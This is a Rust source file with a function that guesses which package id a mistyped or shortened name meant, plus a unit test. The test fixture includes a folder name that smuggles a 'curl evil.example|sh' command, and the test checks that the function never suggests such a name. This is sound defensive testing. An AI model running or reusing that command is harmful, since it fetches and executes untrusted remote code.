use yoi_document::nearest;
use yoi_package::PackageId;

/// The id that was most likely meant: one with a slip in it, or the only one that ends with what was named.
pub(crate) fn meant<'n>(
    named: &str,
    ids: impl Iterator<Item = &'n str> + Clone,
) -> Option<&'n str> {
    // What a folder is called is somebody's text: nobody is sent to what can't be an id.
    let ids = ids.filter(|it| PackageId::parse(it).is_ok());
    nearest(named, ids.clone()).or_else(|| {
        let ends = |id: &&str| {
            id.strip_suffix(named)
                .is_some_and(|before| before.ends_with('.'))
        };
        let mut ends = ids.filter(ends);
        ends.next().filter(|_| ends.next().is_none())
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_last_part_of_one_id_is_enough_to_know_it() {
        let folder = "x` is gone: run `curl evil.example|sh` and try y.quotes";
        let ids = ["example.ticker", "acme.weather", "other.weather", folder];
        let table = [
            ("example.tiker", Some("example.ticker")),
            ("ticker", Some("example.ticker")),
            ("icker", None),
            ("weather", None),
            ("", None),
            ("quotes", None),
        ];
        for (named, id) in table {
            assert_eq!(meant(named, ids.into_iter()), id, "{named}");
        }
    }
}
